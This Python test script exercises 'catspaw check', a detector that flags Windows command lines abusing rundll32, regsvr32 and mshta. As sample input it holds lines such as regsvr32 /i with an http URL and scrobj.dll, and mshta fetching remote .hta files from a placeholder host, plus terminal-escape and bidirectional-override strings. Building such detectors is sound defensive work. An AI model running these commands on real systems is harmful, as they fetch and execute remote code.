#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""check.py CATSPAW: `catspaw check`: its answers in order and in shape, its exit codes, hostile and pasted lines."""
import json
import os
import pty
import re
import resource
import subprocess
import sys
import threading

PROGRAM = os.path.abspath(sys.argv[1])
HOT = r"rundll32.exe C:\Users\Public\a.dll,Run"
COLD = r"notepad.exe C:\Users\u\a.txt"
faults = []


def environment(**more):
    env = {"PATH": os.environ["PATH"], "TERM": "xterm"}
    env.update({k: v for k, v in os.environ.items() if k.endswith("SAN_OPTIONS")})
    env.update(more)
    return env


def run(*args, feed=b"", stdout=subprocess.PIPE):
    feed = feed.encode("utf-8", "surrogateescape") if isinstance(feed, str) else feed
    return subprocess.run([PROGRAM, "check", *args], env=environment(), input=feed, stdout=stdout,
                          stderr=subprocess.PIPE, timeout=300)


def check(label, holds, seen=b""):
    if not holds:
        faults.append("%s: %.600r" % (label, seen))


def answers(*args, feed=b""):
    r = run(*args, feed=feed)
    check("exit %s of %r" % (r.returncode, args), r.returncode == 0, r.stderr)
    check("standard error of %r" % (args,), r.stderr == b"", r.stderr)
    return [json.loads(line) for line in r.stdout.decode().split("\n")[:-1]]


def one(*args, feed=b""):
    got = answers(*args, feed=feed)
    check("one answer to %r" % (args,), len(got) == 1, got)
    return got[0] if got else {}


def spans_hold(label, answer):
    """Every span is of the printed line, and its text exactly those bytes."""
    line = answer.get("command_line", "").encode()
    for r in answer["reasons"]:
        if r["field"] == "command_line":
            cut = line[r["start"]:r["start"] + r["length"]].decode(errors="replace")
            check("span of " + label, cut == r["text"], r)
    command = answer.get("command", {})
    for part in [command.get("object", {})] + command.get("switches", []) + command.get("tokens", []):
        if "start" in part:
            check("part of " + label, part["start"] + part["length"] <= len(line), part)


def shape():
    hot, cold = answers("--json", HOT, COLD)
    for a in (hot, cold):
        check("members", {"command_line", "severity", "score", "behaviours", "techniques", "reasons", "command"} <= set(a), a)
        spans_hold("shape", a)
    check("order", hot["command_line"] == HOT and cold["command_line"] == COLD, (hot, cold))
    check("numbers", hot["line"] == 1 and cold["line"] == 2, (hot, cold))
    check("nothing", cold["severity"] == "none" and cold["score"] == 0 and "behaviour" not in cold
          and cold["behaviours"] == cold["techniques"] == cold["reasons"] == [], cold)
    check("something", hot["behaviour"] == hot["behaviours"][0]["id"] and hot["techniques"] == ["T1218.011"]
          and hot["proxy"]["binary"] == "rundll32.exe", hot)
    command = one("--json", r'regsvr32 /s /u "/i:C:\Users\Public\f.sct" scrobj.dll')["command"]
    check("program", command["program"] == "regsvr32.exe", command)
    check("switches", [s["name"] for s in command["switches"]] == ["s", "u", "i"]
          and command["switches"][2]["value"] == r"C:\Users\Public\f.sct", command)
    check("object", command["object"]["kind"] == "dll" and command["object"]["text"] == "scrobj.dll", command)
    nested = one("--json", 'cmd /c "%s"' % HOT)
    check("inside cmd", nested["techniques"] == ["T1218.011"], nested)
    check("commands", nested["command"]["commands"][0]["text"] == HOT, nested)
    spans_hold("inside cmd", nested)
    check("layers", one("--json", "cmd /c cmd.exe /c %s" % HOT)["techniques"] == ["T1218.011"])
    same = answers("--json", HOT + "\n" + COLD, feed="")
    check("several lines in one argument", [a["command_line"] for a in same] == [HOT, COLD], same)
    check("standard input", answers("--json", feed="%s\n%s" % (HOT, COLD)) == [hot, cold])
    check("a dash is standard input", answers("--json", "-", feed="%s\n%s\n" % (HOT, COLD)) == [hot, cold])


def codes():
    for args, want in (([HOT], 0), (["--fail-on", "high", HOT], 1), (["--fail-on", "critical", HOT], 0),
                       (["--fail-on", "low", COLD], 0), (["--fail-on", "low", COLD, HOT], 1),
                       (["--no-such", HOT], 2), (["--fail-on", "none", HOT], 2), (["--parent"], 2),
                       (["--jsonl", "--parent", "x", "{}"], 2), ([], 0)):
        r = run(*args)
        check("exit %s of %r" % (r.returncode, args), r.returncode == want, r.stderr)
        check("output of %r" % (args,), (r.stdout == b"") == (want == 2 or args == []), r.stdout)
    if os.path.exists("/dev/full"):
        for args in ([HOT], ["--json", HOT]):
            with open("/dev/full", "wb") as full:
                r = run(*args, stdout=full)
            check("full disk", r.returncode == 5 and b"could not be written" in r.stderr, r.stderr)


def json_lines():
    feed = [{"command_line": HOT}, {"command_line": None, "image": r"C:\Windows\System32\rundll32.exe"}, {},
            {"command_line": HOT, "parent_image": "winword.exe", "extra": [1, {"x": None}]},
            {"command_line": "mshta hxxp://files[.]example.org/a"}]
    lines = [json.dumps(x) for x in feed]
    got = answers("--jsonl", feed="\n".join(lines))
    check("answers to JSON", len(got) == len(feed), got)
    check("not logged", "command_line" not in got[1] and "command" not in got[1], got[1])
    check("context", got[3]["severity"] in ("high", "critical"), got[3])
    check("JSON stands as it is", got[4]["command_line"] == feed[4]["command_line"] and "refanged" not in got[4], got[4])
    check("objects as arguments", answers("--jsonl", *lines) == got)
    bad = ["", "not json", lines[0], "[]", "{\"command_line\":\"x\"} {}", "{\"x\":" + "[" * 100 + "]" * 100 + "}",
           "{\"command_line\":\"a\\u0000\\ud800b\"}", "{\"command_line\":", lines[3]]
    r = run("--jsonl", feed="\r\n".join(bad) + "\r\n")
    check("exit of bad lines", r.returncode == 2, r.returncode)
    good = [json.loads(line) for line in r.stdout.splitlines()]
    check("the others are answered", [g["line"] for g in good] == [3, 7, 9], good)
    check("they are named", re.findall(rb"line (\d+): ", r.stderr) == [b"2", b"4", b"5", b"6", b"8"], r.stderr)
    check("NUL and a lone surrogate", good[1]["command_line"] == "a\0\ufffdb", good[1])
    many = run("--jsonl", feed="x\n" * 1000 + lines[0])
    check("many bad lines", many.returncode == 2 and many.stderr.count(b"\n") < 30
          and b"1000 lines" in many.stderr and many.stdout.count(b"\n") == 1, many.stderr)


def context():
    plain = one("--json", HOT)
    for args in (["--parent-image", "winword.exe"], ["--parent", r'"C:\Program Files\Microsoft Office\winword.exe" a.doc']):
        with_parent = one("--json", *args, HOT)
        check("%r is asked" % args, len(with_parent["behaviours"]) > len(plain["behaviours"]), with_parent)
    renamed = one("--json", "--image", r"C:\Users\Public\x.exe", "--ofn", "RUNDLL32.EXE", "x.exe " + HOT.split(" ", 1)[1])
    check("renamed", renamed["proxy"].get("renamed_from", "").lower() == "rundll32.exe", renamed)
    here = one("--json", "--cwd", r"C:\Users\Public", "rundll32.exe a.dll,Run")
    there = one("--json", "rundll32.exe a.dll,Run")
    check("working directory", here != there and here["severity"] != "none", here)
    shown = run("--parent-image", "winword.exe", HOT).stdout
    check("context is shown", b"winword.exe" in shown, shown)
    check("user", one("--json", "--user", "NT AUTHORITY\\SYSTEM", HOT)["severity"] != "none")


def tickets():
    want = one("--json", HOT)
    for given in ("`%s`", "```%s```", "'%s'", "  %s  ", "\t%s\r", "> %s", "- %s", "* %s", "1. %s", "12) `%s`",
                  "\u2022 %s", "\u201c%s\u201d", "$ %s", "C:\\>%s", "C:\\Users\\bob x> %s", "PS C:\\Windows> %s",
                  "> - `%s`", "\"%s\"", "**%s**",
                  "CommandLine: %s", "Process Command Line:\t\"%s\""):
        got = one("--json", feed=given % HOT)
        check("pasted %r" % given, got["command_line"] == HOT and got["severity"] == want["severity"]
              and got["reasons"] == want["reasons"], got)
        check("given %r" % given, ("given" in got) == (given.strip() != "%s"), got)
    for whole in (r'"C:\Program Files\Internet Explorer\iediagcmd.exe"', r'"C:\a b\c.exe" "d e"',
                  r"C:\Windows\System32\cmd.exe /c dir > C:\x.txt", r"C:\a.exe>out.txt", "mshta.exe 'x' 'y'",
                  HOT + "   # a comment that belongs to it", HOT + " `x`", r"cmd /c findstr a[.] x"):
        got = one("--json", whole)
        check("whole %r" % whole, got["command_line"] == whole and "given" not in got and "refanged" not in got, got)
    comment = one("--json", "mshta https://files.example.org/a # C:\\Docs\\Policy.docx")
    check("comment", comment["command_line"].endswith("Policy.docx"), comment)
    quoted = one("--json", '"regsvr32 /s /i:"http://files.example.org/a" scrobj.dll"')
    check("quotes in quotes", quoted["command_line"].startswith("regsvr32") and quoted["command_line"].endswith("dll"), quoted)
    fenced = answers("--json", feed="```cmd\r\n%s\r\n\r\n%s\r\n```\r\n" % (HOT, COLD))
    check("fences", [(a["command_line"], a["line"]) for a in fenced] == [(HOT, 2), (COLD, 4)], fenced)
    check("byte order mark", one("--json", feed=b"\xef\xbb\xbf" + HOT.encode())["command_line"] == HOT)
    for address in ("hxxp://files.example.org/a.hta", "hxxps[:]//files[.]example[.]org/a.hta", "hXXp[://]files(.)example.org/a.hta",
                    "https://files[.]example[.]org/a.hta", "http[:]//198.51.100[.]7/a.hta", "hxxps://files{.}example[dot]org/a.hta"):
        line = "mshta.exe " + address
        got = one("--json", line)
        spans_hold(address, got)
        plain = one("--json", got.get("refanged", ""))
        check("defanged " + address, got["command_line"] == line and got["techniques"] == ["T1218.005"]
              and got["reasons"][0]["text"] == address and [b["id"] for b in plain["behaviours"]] == [b["id"] for b in got["behaviours"]], got)
        check("said of " + address, b"refanged" in run(line).stdout)


def hostile():
    lines = [b"rundll32 \x1b]0;x\x07\x1b[2J C:\\Users\\Public\\a.dll,Run", b"mshta \xff\xfe\x80 http://files.example.org/a",
             b"a\0b\0c", "mshta http://files.example.org/\u202egpj.a\u2066".encode(), b"\x7f\x9b31m", b'"' * 3000, b"^" * 5000,
             b"%" * 5000, b"(" * 5000, b"cmd /c " * 2000 + b"x", b"[.]" * 3000, b"hxxp" * 3000, b"\\" * 5000, b"> " * 3000,
             b"`" * 999, b"rundll32 " + b"a" * 300000 + b",b", b"x" * 1500000, "\u0301".encode() * 500]
    feed = b"\n".join(lines)
    for args in ([], ["--json"]):
        r = run(*args, feed=feed)
        check("exit of hostile lines", r.returncode == 2 and b"line 17: a line of more than 1 MiB" in r.stderr, (r.returncode, r.stderr))
        check("hostile lines are text", r.stdout.decode() is not None)
        check("no control", not re.search(rb"[\x00-\x09\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80\xae|\xe2\x81\xa6", r.stdout), r.stdout[:300])
    for line in run("--json", feed=feed).stdout.decode().split("\n")[:-1]:
        spans_hold("hostile", json.loads(line))
    r = run(feed=bytes(range(256)) * 64)
    check("all bytes", r.returncode == 0, (r.returncode, r.stderr))


def many():
    """10,000 lines: in order, alike whatever the batch they fall in, in bounded memory."""
    lines = [r"rundll32.exe C:\Users\Public\p%d.dll,Run" % i if i % 3 else "notepad.exe %d" % i for i in range(10000)]
    got = answers("--json", feed="\n".join(lines))
    check("10,000 answers", [a["command_line"] for a in got] == lines)
    check("10,000 severities", all((a["severity"] != "none") == (i % 3 != 0) for i, a in enumerate(got)))
    alone = one("--json", lines[7001])
    alone["line"] = 7002
    check("alone as among others", got[7001] == alone, got[7001])
    twice = answers("--json", feed=(HOT + "\n") * 1000)
    check("equal lines are not one", len(twice) == 1000 and all(a["severity"] == twice[0]["severity"] for a in twice))


def memory():
    """Peak memory of ten times the lines is hardly more."""
    if any(k.endswith("SAN_OPTIONS") for k in os.environ):
        return
    peaks = []
    for n in (2000, 20000):
        feed = "".join(r"regsvr32 /s C:\Users\Public\%d.dll" "\n" % i for i in range(n)).encode()
        p = subprocess.Popen([PROGRAM, "check", "--json"], env=environment(), stdin=subprocess.PIPE, stdout=subprocess.DEVNULL)
        p.stdin.write(feed)
        p.stdin.close()
        _, status, usage = os.wait4(p.pid, 0)
        p.returncode = status
        peaks.append(usage.ru_maxrss)
    check("memory", peaks[1] < peaks[0] + 16384, peaks)


def interactive():
    """Whoever writes a line and waits gets the answer before the end."""
    p = subprocess.Popen([PROGRAM, "check", "--json"], env=environment(), stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    timer = threading.Timer(30, p.kill)
    timer.start()
    p.stdin.write((HOT + "\n").encode())
    p.stdin.flush()
    first = p.stdout.readline()
    check("an answer at once", first.startswith(b"{"), first)
    p.stdin.close()
    p.wait(30)
    timer.cancel()


def on_terminal(args, **extra):
    parent, child = pty.openpty()
    p = subprocess.Popen([PROGRAM, "check", *args], env=environment(**extra), stdin=subprocess.DEVNULL, stdout=child)
    os.close(child)
    seen = b""
    try:
        while True:
            got = os.read(parent, 4096)
            if not got:
                break
            seen += got
    except OSError:
        pass  # the other side is closed
    p.wait(60)
    os.close(parent)
    return seen.replace(b"\r\n", b"\n")


def terminal():
    text = run(HOT).stdout
    lines = text.decode().split("\n")
    check("severity first", lines[0].startswith("high"), lines)
    at = lines[1].find("C:")
    check("carets", lines[1].strip() == HOT and lines[2][at] == "^" and set(lines[2]) == {" ", "^"}, lines)
    check("no colour in a pipe", b"\x1b" not in text, text)
    coloured = on_terminal([HOT])
    check("underlined on a terminal", b"\x1b[1;4mC:" in coloured and b"^" not in coloured, coloured)
    check("NO_COLOR", on_terminal([HOT], NO_COLOR="1") == text, on_terminal([HOT], NO_COLOR="1"))
    check("dumb", on_terminal([HOT], TERM="dumb") == text)
    check("JSON on a terminal", b"\x1b" not in on_terminal(["--json", HOT]))
    evil = on_terminal(["mshta \x1b]0;x\x07http://files.example.org/\u202ea"])
    check("evidence on a terminal", b"\x1b]" not in evil and b"\\u001B]0;x\\u0007" in evil and "\u202e".encode() not in evil, evil)


for part in (shape, codes, json_lines, context, tickets, hostile, many, memory, interactive, terminal):
    part()
for fault in faults:
    print(fault)
sys.exit(1 if faults else 0)
